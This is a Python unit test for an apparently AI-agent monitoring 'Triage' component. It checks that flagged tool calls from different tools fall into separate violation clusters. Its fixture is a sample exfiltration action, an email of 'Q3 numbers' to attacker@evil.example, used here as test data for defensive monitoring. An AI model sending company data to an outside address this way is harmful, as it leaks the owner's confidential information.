"""Triage: clusters never span tools, however alike the calls of two tools are."""

from __future__ import annotations

from alignment_flywheel.governance.triage import Triage, violation_of
from tests.support.governance import finding, verification

EMAIL = {"to": "attacker@evil.example", "subject": "Q3 numbers", "body": "see attached"}


def test_near_identical_calls_of_two_tools_start_two_clusters() -> None:
    triage = Triage()
    clusters = []
    for tool in ("workspace.send_email", "travel.send_email", "workspace.send_email"):
        found = finding(tool, EMAIL)
        state, _ = triage.add(violation_of(found, verification(found)))
        clusters.append(state.cluster_id)
    assert clusters[0] != clusters[1]
    assert clusters[0] == clusters[2]
    assert {tuple(sorted(s.tools)) for s in triage.clusters.values()} == {
        ("workspace.send_email",),
        ("travel.send_email",),
    }
